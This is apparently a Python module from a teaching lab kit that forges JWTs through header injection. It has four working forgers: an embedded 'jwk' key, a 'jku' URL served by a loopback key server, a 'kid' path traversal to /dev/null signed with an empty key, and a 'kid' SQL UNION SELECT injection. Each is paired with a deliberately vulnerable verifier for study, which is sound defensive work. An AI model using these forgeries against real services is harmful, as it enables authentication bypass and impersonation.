"""Header injection: make the verifier check a token with a key the attacker chose.

A JWS header may say which key signed it: ``jwk`` carries the key, ``jku``
names a URL of keys, ``kid`` names a key. Each is a hint for a verifier that
already holds the keys; a verifier that takes the hint as the key itself checks
the attacker's signature with the attacker's key. One forger per way in, each
the mirror of one bug in ``labkit.vulnerable``:

- ``forge_jwk``: the attacker's public key rides in ``jwk`` (``trust_embedded_jwk``);
- ``forge_jku``: ``jku`` points at a JWKS the attacker serves, here on loopback
  with ``serve_jwks`` (``follow_jku``);
- ``forge_kid_traversal``: ``kid`` climbs to /dev/null, the token is signed with
  the empty key it reads as (``kid_as_path``);
- ``forge_kid_sql``: ``kid`` injects a ``UNION SELECT`` of the attacker's secret
  (``kid_in_sql``).

``labkit.verify`` refuses all four: keys come from its caller, never from the token.
"""

from __future__ import annotations

import hashlib
import hmac
import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from types import TracebackType
from typing import Any

from cryptography.hazmat.primitives.asymmetric import rsa

from labkit import keys, tokens
from labkit.algorithms import sign_token
from labkit.attacks.forgery import Forgery
from labkit.errors import ConfigurationError, DisallowedAlgorithmError, KeyFormatError

__all__ = [
    "JWKS_PATH",
    "SQL_SECRET",
    "TRAVERSAL_KID",
    "KeyServer",
    "attacker_jwks",
    "attacker_key",
    "forge_jku",
    "forge_jwk",
    "forge_kid_sql",
    "forge_kid_traversal",
    "serve_jwks",
]

TRAVERSAL_KID = "../" * 16 + "dev/null"
"""Climbs out of any key directory up to 16 levels deep to /dev/null (``..`` stops at /)."""
SQL_SECRET = "mallory-chose-this-secret-of-40-bytes!!!"
"""The attacker's HMAC secret for the SQL injection: 40 bytes, so even a length check passes."""
JWKS_PATH = "/.well-known/jwks.json"
"""Where ``serve_jwks`` serves its key set, the conventional path of a real JWKS."""

_HMAC_HASHES = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}


def attacker_key() -> rsa.RSAPrivateKey:
    """The attacker's own RSA key: the DEMO ONLY ``rsa-2`` key, so forged tokens never vary.

    Any key pair the attacker makes works the same; a fixed one keeps notebook
    output reproducible (RS256 signatures are deterministic).
    """
    key = keys.demo_private_key("rsa-2")
    assert isinstance(key, rsa.RSAPrivateKey)
    return key


def forge_jwk(
    claims: dict[str, Any], *, key: rsa.RSAPrivateKey | None = None, kid: str | None = None
) -> Forgery:
    """An RS256 token signed with the attacker's key, carrying its public half in ``jwk``.

    The embedded JWK's ``kid`` is the key's RFC 7638 thumbprint. The header's
    ``kid`` is the same unless ``kid`` is given: copying the service's own kid
    makes the header look honest, as jwt_tool's "Injected JWKS" probe does
    (it keeps the token's kid and embeds its key under kid ``jwt_tool``).
    """
    key = attacker_key() if key is None else _rsa_private(key)
    jwk = keys.to_jwk(key.public_key(), alg="RS256")
    if kid is not None and not isinstance(kid, str):
        raise ConfigurationError(f"kid must be a string, got {kid!r}")
    header_kid = jwk["kid"] if kid is None else kid
    token = sign_token(claims, key, "RS256", headers={"kid": header_kid, "jwk": jwk})
    return Forgery(token, "signed with the attacker's key, whose public half rides in 'jwk'")


def attacker_jwks(key: rsa.RSAPrivateKey | None = None, *, kid: str | None = None) -> dict:
    """The JWKS the attacker serves for ``forge_jku``: their public key, under ``kid``."""
    key = attacker_key() if key is None else _rsa_private(key)
    return keys.to_jwks([keys.to_jwk(key.public_key(), kid=kid, alg="RS256")])


def forge_jku(
    claims: dict[str, Any],
    url: str,
    *,
    key: rsa.RSAPrivateKey | None = None,
    kid: str | None = None,
) -> Forgery:
    """An RS256 token signed with the attacker's key, whose ``jku`` points at ``url``.

    ``kid`` defaults to the key's RFC 7638 thumbprint; copying the service's
    own kid (and serving ``attacker_jwks(kid=...)``) makes the header look
    exactly like an honest one.
    """
    key = attacker_key() if key is None else _rsa_private(key)
    if not isinstance(url, str) or not url:
        raise ConfigurationError(f"url must be the JWKS URL to put in 'jku', got {url!r}")
    kid = keys.thumbprint(key.public_key()) if kid is None else kid
    token = sign_token(claims, key, "RS256", headers={"kid": kid, "jku": url})
    return Forgery(token, "signed with the attacker's key, published at the URL in 'jku'")


def forge_kid_traversal(
    claims: dict[str, Any], *, kid: str = TRAVERSAL_KID, alg: str = "HS256"
) -> Forgery:
    """An HS* token whose ``kid`` is a path to an empty file, signed with the empty key.

    ``labkit.algorithms`` refuses empty secrets, so the HMAC is computed here
    with ``hmac`` directly. (HMAC pads keys with zero bytes, so signing with
    ``b"\\x00"`` gives the same token: PortSwigger's lab uses that.)
    """
    if alg not in _HMAC_HASHES:
        raise DisallowedAlgorithmError(
            f"the kid traversal forgery needs HS256/384/512, got {alg!r}"
        )
    header = {"alg": alg, "typ": "JWT", "kid": kid}
    mac = hmac.new(b"", tokens.signing_input(header, claims), _HMAC_HASHES[alg]).digest()
    return Forgery(
        tokens.encode(header, claims, mac),
        "kid climbs out of the key directory to an empty file; signed with the empty key",
    )


def forge_kid_sql(
    claims: dict[str, Any], *, secret: str = SQL_SECRET, alg: str = "HS256"
) -> Forgery:
    """An HS* token whose ``kid`` makes the key query return ``secret``, signed with it."""
    if not isinstance(secret, str) or not secret or "'" in secret:
        raise ConfigurationError("the injected secret must be non-empty text without a quote")
    kid = f"nothing' UNION SELECT '{secret}' --"
    token = sign_token(claims, secret, alg, headers={"kid": kid})
    return Forgery(token, "kid injects a UNION SELECT of the attacker's secret; signed with it")


# The attacker's key server ------------------------------------------------------------------------


class KeyServer:
    """A JWKS served over real HTTP on 127.0.0.1 (an ephemeral port), in a daemon thread.

    Stands in for the attacker's web server in the ``jku`` lab. It records
    every path requested in ``requests``, so a lab can show that the verifier
    came to fetch keys. Use it as a context manager, or call ``close()``.
    """

    def __init__(self, jwks: dict[str, Any], *, path: str = JWKS_PATH) -> None:
        if not isinstance(jwks, dict):
            raise KeyFormatError(f"a JWKS must be a dict, got {type(jwks).__name__}")
        self.path = path
        self.requests: list[str] = []
        self._body = json.dumps(jwks).encode("utf-8")
        self._httpd = ThreadingHTTPServer(("127.0.0.1", 0), _JwksHandler)
        self._httpd.key_server = self  # type: ignore[attr-defined]
        self._thread = threading.Thread(
            target=self._httpd.serve_forever,
            kwargs={"poll_interval": 0.05},  # how soon close() takes effect
            name="labkit-key-server",
            daemon=True,
        )
        self._thread.start()

    @property
    def url(self) -> str:
        """The key set's URL: what the forged token's ``jku`` says."""
        host, port = self._httpd.server_address[:2]
        return f"http://{host}:{port}{self.path}"

    @property
    def running(self) -> bool:
        """True until ``close()``."""
        return self._thread.is_alive()

    def close(self) -> None:
        """Stop serving, free the port and wait for the thread (safe to call twice)."""
        if self._thread.is_alive():
            self._httpd.shutdown()
            self._thread.join()
        self._httpd.server_close()

    def __enter__(self) -> KeyServer:
        return self

    def __exit__(
        self,
        exc_type: type[BaseException] | None,
        exc: BaseException | None,
        tb: TracebackType | None,
    ) -> None:
        self.close()

    def __repr__(self) -> str:
        state = "serving" if self.running else "closed"
        return f"<KeyServer {state} {self.url}, {len(self.requests)} request(s)>"


def serve_jwks(jwks: dict[str, Any], *, path: str = JWKS_PATH) -> KeyServer:
    """Start serving ``jwks`` at ``http://127.0.0.1:<free port><path>``; ``close()`` it after."""
    return KeyServer(jwks, path=path)


class _JwksHandler(BaseHTTPRequestHandler):
    server_version = "labkit-key-server"

    def do_GET(self) -> None:
        key_server: KeyServer = self.server.key_server  # type: ignore[attr-defined]
        key_server.requests.append(self.path)
        found = self.path == key_server.path
        body = key_server._body if found else b'{"message":"Not Found"}'
        self.send_response(200 if found else 404)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:
        """Silent: a request log on stderr would land in notebook outputs."""


def _rsa_private(key: object) -> rsa.RSAPrivateKey:
    if not isinstance(key, rsa.RSAPrivateKey):
        raise KeyFormatError("the attacker's key must be an RSA private key (cryptography)")
    return key
